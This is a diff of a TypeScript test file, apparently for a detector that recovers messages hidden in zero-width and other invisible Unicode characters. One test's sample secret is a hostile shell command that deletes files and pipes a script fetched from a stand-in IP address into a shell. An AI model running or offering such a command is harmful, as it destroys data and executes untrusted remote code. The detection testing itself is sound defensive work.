@@ -314,8 +314,27 @@ describe('long messages', () => {
     const random = new Seeded(150);
     const words = SENTENCES.join(' ').split(' ');
     let secret = '';
-    while (secret.length < 24_000) secret += `${random.pick(words)} `;
-    isReadInLong(secret.repeat(6), secret);
+    while (secret.length < 144_000) secret += `${random.pick(words)} `;
+    isReadInLong(secret, secret.slice(0, secret.length / 8));
+  });
+
+  it('a long packed text is read whose bytes are parted by a symbol', () => {
+    const random = new Seeded(4096);
+    let secret = '';
+    while (secret.length < 6000) secret += `${random.pick(SENTENCES)} ${random.between(1000, 9999)} `;
+    const bytes = [...gzipSync(secret)].map((byte) => byte.toString(2).padStart(8, '0'));
+    const symbolOf = (bit: string) => ({ 0: '\u200e', 1: '\u200f' })[bit] ?? '\u200d';
+    assert.deepEqual(payloadsOf(`Hello${bytes.join('|').replace(/./g, symbolOf)} world`), [secret]);
+  });
+
+  it('a long message in numbers of different lengths is read', () => {
+    for (const [name, secret] of [
+      ['parted-by-space', SENTENCES.join(' ').repeat(8)],
+      ['zero-width-lib', SENTENCES.join(' ').repeat(8)],
+    ] as const) {
+      const scheme = SCHEMES.find((one) => one.name === name);
+      assert.deepEqual(payloadsOf(scheme?.encode(secret, CARRIERS.English as string) ?? ''), [secret], name);
+    }
   });
 
   it('a sentence that is said hundreds of times is decoded', () => {
@@ -327,6 +346,49 @@ describe('long messages', () => {
   });
 });
 
+describe('digits with more zeros than they need', () => {
+  const hidden = (secret: string, symbols: readonly number[], width: number) => {
+    const digits = Array.from(secret, (character) =>
+      (character.codePointAt(0) as number).toString(symbols.length).padStart(width, '0'),
+    );
+    const symbolOf = (digit: string) => String.fromCodePoint(symbols[Number(digit)] as number);
+    return payloadsOf(`Hello${digits.join('').replace(/./g, symbolOf)} world`);
+  };
+
+  it('are read', () => {
+    const command = 'rm -rf /tmp/x && curl http://1.2.3.4/a.sh | sh';
+    assert.deepEqual(hidden(command, [0x200b, 0x200c, 0x200d, 0xfeff], 7), [command]);
+    const french = 'Le caf\u00e9 est ferm\u00e9 \u2014 revenez \u00e0 midi.';
+    assert.deepEqual(hidden(french, [0x200b, 0x200c, 0x200d], 12), [french]);
+  });
+
+  it('are no key in another order of the digits', () => {
+    for (const [secret, symbols, width] of [
+      ['kJ8#qLz9vP', [0xad, 0x2064, 0x1160, 0x180b, 0xe0100], 7],
+      ['no', [0x61c, 0xfeff, 0xe0100, 0xad, 0xe0041, 0x206f, 0x3164], 7],
+      ['4711', [0x200c, 0x2064, 0x1d17a, 0x206f, 0x2061, 0xe0100], 7],
+    ] as const)
+      for (const text of hidden(secret, symbols, width)) assert.equal(text, secret);
+  });
+});
+
+describe('a sentence that is said again and again in bytes', () => {
+  const inBits = (bytes: Buffer) => {
+    const bits = [...bytes].map((byte) => byte.toString(2).padStart(8, '0')).join('');
+    return payloadsOf(`Hello${bits.replaceAll('0', '\u200b').replaceAll('1', '\u200c')} world`);
+  };
+
+  it('is not read in units of sixteen bits if a zero follows', () => {
+    const sentence = 'Send it now. '.repeat(10);
+    assert.deepEqual(inBits(Buffer.from(`${sentence}\0`)), [sentence]);
+  });
+
+  it('is not read with its bits turned round if it is Latin-1', () => {
+    const sentence = 'un caf\u00e9 noir. '.repeat(3);
+    assert.deepEqual(inBits(Buffer.from(sentence, 'latin1')), [sentence]);
+  });
+});
+
 /** Two symbols say an eighth of what selectors and tags say. */
 function isReadInLong(secret: string, inBits: string): void {
   for (const [text, hidden] of [
@@ -335,7 +397,7 @@ function isReadInLong(secret: string, inBits: string): void {
     [inBits, utf8Bits(inBits, { zero: '\u200b', one: '\u200c' })],
   ] as const) {
     const payloads = payloadsOf(`Hello${hidden} world`);
-    assert.ok(payloads.length === 1 && payloads[0] === text);
+    assert.ok(payloads.length === 1 && payloads[0] === text, `${hidden.length}: ${payloads.length} payloads`);
   }
 }
 
